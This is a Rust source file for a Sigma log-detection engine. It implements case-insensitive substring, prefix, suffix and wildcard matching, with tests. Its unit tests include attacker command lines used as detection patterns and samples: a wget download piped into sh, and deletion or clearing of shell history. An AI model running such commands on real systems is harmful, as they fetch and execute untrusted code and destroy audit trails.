//! Sigma value patterns: exact, contains, startswith, endswith, and wildcards (`*`, `?`, with
//! `\*`, `\?`, `\\` escapes), ASCII-case-insensitive unless `cased`. Matching never allocates.

use crate::simd::ByteSet;

/// How a string value is compared.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum StrKind {
    /// The whole value.
    Exact,
    /// Anywhere in the value.
    Contains,
    /// At the start.
    StartsWith,
    /// At the end.
    EndsWith,
    /// Wildcards: the parts between `*` (each `?` one byte), anchored at both ends.
    Glob,
}

/// One compiled string pattern.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct StrPattern {
    kind: StrKind,
    /// The literal, lowercased unless `cased`. For `Glob`, `*` and `?` are the wildcards and
    /// `literal_mask` says which bytes are literal (escaped) stars or question marks.
    needle: Vec<u8>,
    literal: Vec<bool>,
    cased: bool,
    /// For a glob: its longest wildcard-free run, which any match must contain (a cheap
    /// rejection before the backtracking match).
    required: Vec<u8>,
    /// Where the rarest byte of the needle (for `Contains`) or of `required` (for `Glob`) is:
    /// what the search jumps between.
    rare: usize,
}

/// A Sigma string with its wildcards resolved: the bytes, and which of them are wildcards.
fn unescape_wildcards(s: &str) -> (Vec<u8>, Vec<bool>) {
    let mut bytes = Vec::with_capacity(s.len());
    let mut wild = Vec::with_capacity(s.len());
    let mut it = s.bytes().peekable();
    while let Some(b) = it.next() {
        match b {
            b'\\' if matches!(it.peek(), Some(b'*' | b'?' | b'\\')) => {
                bytes.push(it.next().expect("peeked"));
                wild.push(false);
            }
            b'*' | b'?' => {
                bytes.push(b);
                wild.push(true);
            }
            _ => {
                bytes.push(b);
                wild.push(false);
            }
        }
    }
    (bytes, wild)
}

/// Where in `needle` its rarest byte in log text is (the first of equals).
fn rarest_byte(needle: &[u8]) -> usize {
    let mut best = 0;
    for (i, &b) in needle.iter().enumerate() {
        if super::literals::frequency(b) < super::literals::frequency(needle[best]) {
            best = i;
        }
    }
    best
}

impl StrPattern {
    /// Compiles a Sigma string for a match `kind` (from the modifiers; `Exact` for a plain
    /// field value). Wildcards turn any kind into a glob with the matching implicit stars.
    pub fn new(value: &str, kind: StrKind, cased: bool) -> Self {
        let (mut bytes, mut wild) = unescape_wildcards(value);
        if !cased {
            bytes.make_ascii_lowercase();
        }
        if !wild.iter().any(|&w| w) {
            return Self {
                kind,
                rare: rarest_byte(&bytes),
                needle: bytes,
                literal: Vec::new(),
                cased,
                required: Vec::new(),
            };
        }
        // Leading / trailing stars for contains, startswith and endswith.
        if matches!(kind, StrKind::Contains | StrKind::EndsWith) {
            bytes.insert(0, b'*');
            wild.insert(0, true);
        }
        if matches!(kind, StrKind::Contains | StrKind::StartsWith) {
            bytes.push(b'*');
            wild.push(true);
        }
        let mut required: &[u8] = &[];
        let mut start = 0;
        for i in 0..=bytes.len() {
            if i == bytes.len() || wild[i] {
                if i - start > required.len() {
                    required = &bytes[start..i];
                }
                start = i + 1;
            }
        }
        let required = required.to_vec();
        Self {
            kind: StrKind::Glob,
            needle: bytes,
            literal: wild.iter().map(|w| !w).collect(),
            cased,
            rare: rarest_byte(&required),
            required,
        }
    }

    /// The literal of a plain `contains` pattern (no wildcards), lowercased unless cased: what a
    /// shared Aho-Corasick automaton can search for instead.
    pub fn contains_literal(&self) -> Option<(&[u8], bool)> {
        (self.kind == StrKind::Contains).then_some((&self.needle, self.cased))
    }

    /// A literal that every match of this pattern contains (case aside), for a prefilter:
    /// the whole needle of a `contains`, `startswith`, `endswith` or exact pattern, or the longest
    /// wildcard-free run of a glob. `None` when there is none worth searching for.
    pub fn required_literal(&self) -> Option<&[u8]> {
        let lit: &[u8] = match self.kind {
            StrKind::Glob => &self.required,
            _ => &self.needle,
        };
        (lit.len() >= 2).then_some(lit)
    }

    fn eq(&self, a: u8, b: u8) -> bool {
        if self.cased {
            a == b
        } else {
            a.to_ascii_lowercase() == b
        }
    }

    fn eq_slice(&self, hay: &[u8], needle: &[u8]) -> bool {
        hay.len() == needle.len() && hay.iter().zip(needle).all(|(&h, &n)| self.eq(h, n))
    }

    /// Whether `hay` holds `needle`, whose rarest byte is at `rare`.
    fn find(&self, hay: &[u8], needle: &[u8], rare: usize) -> bool {
        if needle.is_empty() {
            return true;
        }
        if hay.len() < needle.len() {
            return false;
        }
        // Jump between occurrences of the needle's rarest byte in log text (either case) with the
        // vector scan: far fewer stops than at its first byte (`F` of `Failed password` stops
        // at every `f`; its `w` rarely).
        let b = needle[rare];
        let set = if self.cased {
            ByteSet::new(&[b])
        } else {
            ByteSet::new(&[b, b.to_ascii_uppercase()])
        };
        let last = hay.len() - needle.len();
        let mut at = 0;
        while at <= last {
            let Some(i) = crate::simd::find(&hay[at + rare..=last + rare], &set) else {
                return false;
            };
            let i = at + i;
            if self.eq_slice(&hay[i..i + needle.len()], needle) {
                return true;
            }
            at = i + 1;
        }
        false
    }

    /// Whether `value` matches.
    pub fn matches(&self, value: &[u8]) -> bool {
        match self.kind {
            StrKind::Exact => self.eq_slice(value, &self.needle),
            StrKind::Contains => self.find(value, &self.needle, self.rare),
            StrKind::StartsWith => {
                value.len() >= self.needle.len()
                    && self.eq_slice(&value[..self.needle.len()], &self.needle)
            }
            StrKind::EndsWith => {
                value.len() >= self.needle.len()
                    && self.eq_slice(&value[value.len() - self.needle.len()..], &self.needle)
            }
            StrKind::Glob => {
                (self.required.is_empty() || self.find(value, &self.required, self.rare))
                    && self.glob(value, 0, 0)
            }
        }
    }

    /// Wildcard match with the classic backtracking on the last star: linear for patterns
    /// without `?` next to stars, and never worse than O(len(value) * len(pattern)).
    fn glob(&self, v: &[u8], mut vi: usize, mut pi: usize) -> bool {
        let p = &self.needle;
        let literal = |i: usize| self.literal[i];
        let mut star: Option<(usize, usize)> = None;
        while vi < v.len() {
            if pi < p.len() && !literal(pi) && p[pi] == b'*' {
                star = Some((pi, vi));
                pi += 1;
            } else if pi < p.len() && ((!literal(pi) && p[pi] == b'?') || self.eq(v[vi], p[pi])) {
                pi += 1;
                vi += 1;
            } else if let Some((sp, sv)) = star {
                pi = sp + 1;
                vi = sv + 1;
                star = Some((sp, sv + 1));
            } else {
                return false;
            }
        }
        while pi < p.len() && !literal(pi) && p[pi] == b'*' {
            pi += 1;
        }
        pi == p.len()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    proptest! {
        /// `contains` finds the needle wherever it is, whichever of its bytes the search
        /// jumps between: as the plain search over lowercased bytes does.
        #[test]
        fn contains_agrees_with_a_plain_search(
            needle in "[a-cA-C wW/]{1,6}",
            hay in "[a-cA-C wW/]{0,80}",
            cased in any::<bool>(),
        ) {
            let p = StrPattern::new(&needle, StrKind::Contains, cased);
            let (h, n) = if cased {
                (hay.clone().into_bytes(), needle.clone().into_bytes())
            } else {
                (hay.to_ascii_lowercase().into_bytes(), needle.to_ascii_lowercase().into_bytes())
            };
            let want = h.windows(n.len()).any(|w| w == n.as_slice());
            prop_assert_eq!(p.matches(hay.as_bytes()), want);
        }
    }

    fn m(value: &str, kind: StrKind, hay: &str) -> bool {
        StrPattern::new(value, kind, false).matches(hay.as_bytes())
    }

    #[test]
    fn kinds_and_case() {
        assert!(m("Admin", StrKind::Exact, "admin"));
        assert!(!m("admin", StrKind::Exact, "admins"));
        assert!(m(
            "history -c",
            StrKind::Contains,
            "user ran HISTORY -C now"
        ));
        assert!(m("/tmp/", StrKind::StartsWith, "/TMP/x"));
        assert!(m(".sh", StrKind::EndsWith, "run.SH"));
        assert!(!StrPattern::new("Admin", StrKind::Exact, true).matches(b"admin"));
    }

    #[test]
    fn wildcards_and_escapes() {
        assert!(m(
            "rm *sh_history",
            StrKind::Contains,
            "sudo rm ~/.bash_history"
        ));
        assert!(m(
            "wget * - http* | sh",
            StrKind::Contains,
            "wget -q - http://x | sh"
        ));
        assert!(!m(
            "wget * - http* | sh",
            StrKind::Contains,
            "wget -q - ftp://x | sh"
        ));
        assert!(m("a?c", StrKind::Exact, "abc"));
        assert!(!m("a?c", StrKind::Exact, "abbc"));
        assert!(m(r"100\*", StrKind::Exact, "100*"));
        assert!(!m(r"100\*", StrKind::Exact, "1000"));
        assert!(m(r"a\\b", StrKind::Exact, r"a\b"));
        assert!(m("*", StrKind::Exact, ""));
        assert!(m("a*b*c", StrKind::Exact, "aXXbYYc"));
        assert!(!m("a*b*c", StrKind::Exact, "aXXbYY"));
    }
}
